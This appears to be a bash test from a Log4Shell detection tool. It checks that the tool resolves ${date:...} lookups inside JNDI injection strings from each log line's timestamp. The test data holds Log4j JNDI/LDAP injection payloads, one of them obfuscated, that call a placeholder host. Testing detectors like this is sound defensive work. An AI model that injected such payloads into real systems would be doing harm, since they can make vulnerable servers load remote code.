#!/usr/bin/env bash
# logs_time.sh -- ${date:...} is formatted with the event's time: defuse
# logs takes it from the line's timestamp (ISO 8601, common log format),
# and without one reports what each time of day would request, marked
# "clock".  ${date:a} is AM or PM.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
printf '%s\n' \
    '2021-12-10T13:45:30Z app ${jndi:ldap://x/${date:a}}' \
    '1.2.3.4 - - [10/Dec/2021:02:00:00 +0000] "GET /?q=${jndi:ldap://x/${date:a}}"' \
    'no time here ${jndi:ldap://x/${date:a}}' \
    '2021-12-10 13:45:30,123 [main] ${${date:G:-}:-x}${jndi:ldap://x/${date:yyyy}}' >t.log
"$DEFUSE" logs --json t.log >out.json; expect_rc 1 $? "findings"
python3 - <<'PY' || fail "callbacks follow the line's time"
import json
got = {}
for l in open("out.json"):
    o = json.loads(l)
    got.setdefault(o["line"], []).append((o["callback"], "clock" in o["techniques"]))
assert got[1] == [("ldap://x/PM", False)], got[1]
assert got[2] == [("ldap://x/AM", False)], got[2]
assert sorted(got[3]) == [("ldap://x/AM", True), ("ldap://x/PM", True)], got[3]
assert got[4] == [("ldap://x/2021", False)], got[4]
PY
ok "callbacks follow the line's time"
finish
